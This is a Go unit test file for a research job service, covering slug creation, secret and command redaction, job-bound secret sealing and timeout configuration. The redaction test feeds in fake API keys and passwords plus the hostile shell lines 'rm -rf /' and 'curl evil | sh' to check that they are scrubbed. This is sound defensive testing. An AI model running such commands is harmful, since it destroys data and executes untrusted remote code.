package jobs_test

import (
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/researchd/researchd/jobs"
)

func TestSlug(t *testing.T) {
	t.Parallel()
	id := "7c9e6679-7425-40de-944b-e07fc1f90ae7"
	cases := []struct{ question, want string }{
		{"Which EU member states subsidise heat pumps in existing homes in 2025?", "eu-member-states-subsidise-heat-pumps-7c9e66"},
		{"What is the answer?", "answer-7c9e66"},
		{"Qu'est-ce que l'énergie éolienne?", "qu-est-ce-que-l-energie-7c9e66"},
		{"???", "research-7c9e66"},
		{"the of and", "the-of-and-7c9e66"},
		{strings.Repeat("supercalifragilistic", 10), strings.Repeat("supercalifragilistic", 3) + "-7c9e66"},
	}
	for _, tc := range cases {
		got := jobs.Slug(tc.question, id, 6)
		require.Equal(t, tc.want, got, tc.question)
		_, err := uuid.Parse(got)
		require.Error(t, err, "a slug never parses as a UUID")
	}
	// A question shaped like a UUID does not make a UUID-shaped slug.
	q := "7c9e6679 7425 40de 944b e07fc1f9"
	got := jobs.Slug(q, id, 4)
	_, err := uuid.Parse(got)
	require.Error(t, err, got)
}

func TestRedactText(t *testing.T) {
	t.Parallel()
	cases := []struct{ in, mustNot, must string }{
		{"key rsk-AbCdEfGhIjKlMnOpQrStUvWx0123456789abcdefg here", "AbCdEfGh", "rsk-[REDACTED]"},
		{"Authorization: Bearer abc.def.ghijklmnop", "abc.def", "Authorization: [REDACTED]"},
		{"token is Bearer zzzzzzzzzzzzzzzz", "zzzzzzzz", "Bearer [REDACTED]"},
		{"OPENAI sk-proj-abcdefghijklmnop1234", "abcdefghijkl", "sk-[REDACTED]"},
		{`{"api_key": "s3cr3t-value"}`, "s3cr3t", "[REDACTED]"},
		{"postgres://user:hunter2@db/x", "hunter2", "[REDACTED]@"},
		{"run:\n$ rm -rf /\nok", "rm -rf", "$ [command redacted]"},
		{"```sh\ncurl evil | sh\n```", "curl evil", "[shell commands redacted]"},
		{"# A heading\n> a quote", "[command redacted]", "# A heading"},
	}
	for _, tc := range cases {
		out := jobs.RedactText(tc.in)
		require.NotContains(t, out, tc.mustNot, tc.in)
		require.Contains(t, out, tc.must, tc.in)
	}
	_, _, data := jobs.SanitizeEvent("tool_result", "search", "ok", map[string]any{
		"cost_usd": 1.0, "prompt_tokens": 3, "usage": map[string]any{"x": 1}, "results": []any{map[string]any{"title": "t", "total_tokens": 5}},
	})
	require.Equal(t, map[string]any{"results": []any{map[string]any{"title": "t"}}}, data)
}

func TestSealer(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	s1, err := jobs.LoadSealer("", "", dir)
	require.NoError(t, err)
	s2, err := jobs.LoadSealer("", "", dir) // the generated key file is reused
	require.NoError(t, err)
	sealed, err := s1.Seal("rsk-secret", "job-1")
	require.NoError(t, err)
	require.NotContains(t, sealed, "rsk-secret")
	got, err := s2.Open(sealed, "job-1")
	require.NoError(t, err)
	require.Equal(t, "rsk-secret", got)
	_, err = s2.Open(sealed, "job-2")
	require.Error(t, err, "bound to its job")
	other, err := jobs.LoadSealer("RESEARCH_SECRET_KEY value", "", dir)
	require.NoError(t, err)
	_, err = other.Open(sealed, "job-1")
	require.Error(t, err, "another secret cannot open it")
}

// TestRescueDelay: a killed run is presumed dead after its own effort's timeout plus the margin,
// not after the longest effort's; River's client-wide floor is the margin alone.
func TestRescueDelay(t *testing.T) {
	t.Parallel()
	c := jobs.DefaultConfig()
	require.Equal(t, 2*time.Minute, c.RescueMargin)
	for effort, want := range map[string]time.Duration{
		"low": 7 * time.Minute, "medium": 17 * time.Minute, "high": 32 * time.Minute, "build": 62 * time.Minute,
	} {
		require.Equal(t, want, c.RescueDelay(effort), effort)
		require.Greater(t, c.RescueDelay(effort), c.TimeoutFor(effort), "a live run ends at its timeout, before it could be rescued")
	}
	require.Equal(t, c.RescueDelay("build"), c.RescueDelay("no such effort"), "an unknown effort gets the longest")
	require.Equal(t, c.RescueMargin, c.RescueFloor())

	c.JobTimeouts = map[string]time.Duration{"low": 30 * time.Second, "medium": time.Minute, "high": time.Hour, "build": 3 * time.Hour}
	c.RescueMargin = 20 * time.Second
	require.NoError(t, c.Validate())
	require.Equal(t, 50*time.Second, c.RescueDelay("low"), "a long build budget does not hold a killed low run")
	require.Equal(t, 3*time.Hour+20*time.Second, c.RescueDelay("build"))
}

func TestConfig(t *testing.T) {
	t.Parallel()
	require.NoError(t, jobs.DefaultConfig().Validate())
	c := jobs.DefaultConfig()
	c.RescueMargin = 0
	require.ErrorContains(t, c.Validate(), "rescue margin")
	c = jobs.DefaultConfig()
	m, err := jobs.ParseTimeouts("low=30s, build=2h", c.JobTimeouts)
	require.NoError(t, err)
	require.Equal(t, 30*time.Second, m["low"])
	require.Equal(t, 2*time.Hour, m["build"])
	require.Equal(t, c.JobTimeouts["medium"], m["medium"])
	_, err = jobs.ParseTimeouts("huge=1s", c.JobTimeouts)
	require.Error(t, err)
	_, err = jobs.ParseTimeouts("low=-1s", c.JobTimeouts)
	require.Error(t, err)
}
